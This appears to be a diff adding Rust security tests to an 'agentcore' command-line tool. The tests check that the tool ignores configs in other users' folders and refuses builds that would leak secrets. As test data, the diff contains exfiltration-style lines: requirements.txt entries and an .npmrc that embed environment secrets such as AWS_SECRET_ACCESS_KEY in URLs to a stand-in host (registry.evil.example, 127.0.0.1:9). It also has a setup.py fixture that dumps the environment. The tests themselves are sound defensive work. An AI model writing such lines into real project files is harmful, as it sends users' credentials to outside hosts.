@@ -235,6 +235,65 @@ fn a_configuration_sends_no_secret_of_the_machine_away() {
     assert!(seen.is_empty(), "{seen:?}");
 }
 
+#[test]
+fn a_set_up_in_a_strangers_folder_is_not_obeyed() {
+    let world = World::new();
+    if !shared_machine(&world) {
+        return;
+    }
+    let file = "shared/mine/.agentcore_identity_cognito_m2m.json";
+    let record = r#"{"flow_type": "m2m", "runtime": {"pool_id": "us-west-2_x"}, "identity": {"pool_id": "us-west-2_x",
+        "client_id": "c", "client_secret": "s", "token_endpoint": "http://127.0.0.1:9/token",
+        "resource_server_identifier": "r", "scopes": ["read"], "flow_type": "client_credentials"}}"#;
+    world.write(file, record);
+    let mine = world.project().join("shared/mine");
+    std::fs::remove_file(world.project().join("shared").join(FILE)).unwrap();
+    let verbs: &[&[&str]] = &[
+        &["identity", "token"],
+        &["identity", "verify"],
+        &["identity", "cleanup", "--force"],
+        &["identity", "setup-cognito", "--auth-flow", "m2m"],
+    ];
+    // The folder and the file, the folder alone, the file alone.
+    for (folder, of_file) in [(STRANGER, STRANGER), (STRANGER, 0), (0, STRANGER)] {
+        give(&world, "shared/mine", folder);
+        give(&world, file, of_file);
+        for verb in verbs {
+            world.agentcore(verb).dir(&mine).run().code(2).says("belongs to another user");
+        }
+    }
+    // Whoever calls sudo, and whoever names the folder, believes it; nobody answers then.
+    give(&world, "shared/mine", STRANGER);
+    give(&world, file, STRANGER);
+    for (name, value) in [("SUDO_UID", STRANGER.to_string()), ("AGENTCORE_CONFIG", ".".to_owned())] {
+        let run = world.agentcore(&["identity", "token"]).dir(&mine).var(name, value).run();
+        assert!(run.code == Some(1) && run.stderr_text().contains("could not fetch"), "{run}");
+    }
+}
+
+#[test]
+fn requirements_send_no_secret_to_a_host_of_their_own() {
+    if !packages_available() {
+        return;
+    }
+    let mut world = World::new();
+    world.set("AGENTCORE_BASE_IMAGE", "scratch");
+    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let build = ["build", "--builder", "native"];
+    for name in ["IDENTITY_CLIENT_SECRET", "RUNTIME_PASSWORD", "OPENAI_API_KEY", "DATABASE_URL", "SCW_SECRET_KEY"] {
+        for line in [
+            format!("six @ http://127.0.0.1:9/${{{name}}}/six-1.0-py3-none-any.whl\n"),
+            format!("--index-url http://u:${{{name}}}@127.0.0.1:9/simple\nsix\n"),
+            format!("six @ git+https://${{{name}}}@127.0.0.1:9/six\n"),
+        ] {
+            world.write("requirements.txt", &line);
+            let run = world.agentcore(&build).var(name, "canary-of-the-machine").run().code(2);
+            run.says(name).says("--trust-config").says("AGENTCORE_BUILD_ENV");
+        }
+    }
+}
+
 /// What a stranger's link leads to: a folder with files, whose every byte must stay as it is.
 struct Outside {
     before: std::collections::BTreeMap<std::path::PathBuf, Option<Vec<u8>>>,
@@ -487,6 +546,10 @@ fn a_packages_own_build_sees_no_secret() {
     world.set("AGENTCORE_BASE_IMAGE", "scratch");
     let dump = world.path("tmp/dump");
     world.write("agent.py", "import lib\n").write("requirements.txt", "./lib\n").write("lib/lib.py", "");
+    for name in ["UV_INDEX_X_PASSWORD", "SSH_AUTH_SOCK"] {
+        // uv builds where it is there, pip elsewhere; neither needs the agent.
+        world.set(name, "only-for-another");
+    }
     let setup = format!(
         "import os\nfrom setuptools import setup\nopen({:?}, 'a').write(repr(dict(os.environ)))\n\
          setup(name='lib', version='1', py_modules=['lib'])\n",
@@ -495,8 +558,9 @@ fn a_packages_own_build_sees_no_secret() {
     world.write("lib/setup.py", &setup);
     world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
     let build = ["build", "--builder", "native"];
-    let (run, _) = surroundings(&world, &build, &dump);
+    let (run, seen) = surroundings(&world, &build, &dump);
     run.code(0);
+    assert!(!seen.contains("SSH_AUTH_SOCK"), "{seen}");
 }
 
 #[test]
@@ -516,13 +580,25 @@ fn scripts_of_node_packages_see_no_secret() {
         r#"{"name":"agent","version":"1.0.0","private":true,"scripts":{"build":"node dump.js","postinstall":"node dump.js"}}"#,
     );
     world.npm("", &["install", "--package-lock-only", "--ignore-scripts"]);
-    world.write(".npmrc", "//registry.evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
+    for (name, value) in [
+        ("NODE_AUTH_TOKEN", "login-of-a-registry"),
+        ("NPM_TOKEN", "login-of-a-registry"),
+        ("npm_config__auth", "login-of-a-registry"),
+        ("NPM_CONFIG_OTP", "login-of-a-registry"),
+        ("NIX_CONFIG", "access-tokens = github.com=login-of-a-registry"),
+    ] {
+        world.set(name, value);
+    }
     world.agentcore(&["configure", "-ni", "-e", "src/agent.ts", "-n", "a", "--region", "us-west-2"]).run().code(0);
     let build = ["build", "--builder", "native"];
     let (run, seen) = surroundings(&world, &build, &dump);
     // Installed with its scripts, and built.
     assert!(seen.matches("\"PATH\"").count() >= 2, "{seen}\n{run}");
-    run.says("AWS_SECRET_ACCESS_KEY").says(".npmrc");
+    assert!(!seen.contains("login-of-a-registry"), "{seen}");
+    run.code(0);
+    world.write(".npmrc", "//registry.evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
+    let command = world.agentcore(&build).var("AWS_SECRET_ACCESS_KEY", "canary").run().code(2);
+    command.says("AWS_SECRET_ACCESS_KEY").says(".npmrc");
 }
 
 #[test]
